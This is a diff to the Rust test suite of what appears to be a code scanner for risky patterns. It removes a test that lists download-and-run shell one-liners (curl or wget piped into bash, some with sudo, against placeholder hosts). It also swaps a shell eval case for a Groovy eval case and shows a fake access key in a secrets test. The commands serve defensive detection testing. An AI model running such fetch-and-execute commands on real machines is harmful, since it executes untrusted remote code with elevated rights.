@@ -846,29 +846,6 @@ mod tests {
     }
 
     #[test]
-    fn downloads_run_by_a_shell() {
-        let sh = Some(Family::Shell);
-        for bad in [
-            "curl -fsSL https://x.test/i.sh | sh\n",
-            "curl http://10.0.0.1/setup.bash | sudo /bin/bash\n",
-            "curl http://10.0.0.1/setup.bash | /bin/bash -x | tee -a /tmp/log\n",
-            "bash <(curl -Ls \"https://x.test/i.sh\")\n",
-            "sudo bash <(wget -qO- https://x.test/i.sh)\n",
-            "/bin/bash -c \"$(curl -fsSL https://x.test/install.sh)\"\n",
-        ] {
-            assert_eq!(ids(sh, bad), ["sh-curl-pipe-shell"], "{bad}");
-        }
-        for ok in [
-            "curl http://10.0.0.1/setup.bash | tee -a /tmp/log\n",
-            "curl -fsSLO https://x.test/i.sh && sha256sum -c i.sh.sha256 && sh i.sh\n",
-            "bash -c \"$(cat local.sh)\"\n",
-            "# curl https://x.test/i.sh | sh\n",
-        ] {
-            assert!(ids(sh, ok).is_empty(), "{ok}");
-        }
-    }
-
-    #[test]
     fn secrets_basic() {
         assert_eq!(
             ids(None, "AKIAZ4N2R7Q5X6LQWT3P\n"),
@@ -960,10 +937,10 @@ mod tests {
         assert_eq!(
             ids_at(
                 "vendor/modules.txt",
-                Some(Family::Shell),
-                "eval \"$user_cmd\"\n"
+                Some(Family::Java),
+                "GroovyShell shell = new GroovyShell();\nshell.evaluate(script);\n"
             ),
-            ["sh-eval"]
+            ["java-groovy-eval"]
         );
     }
 
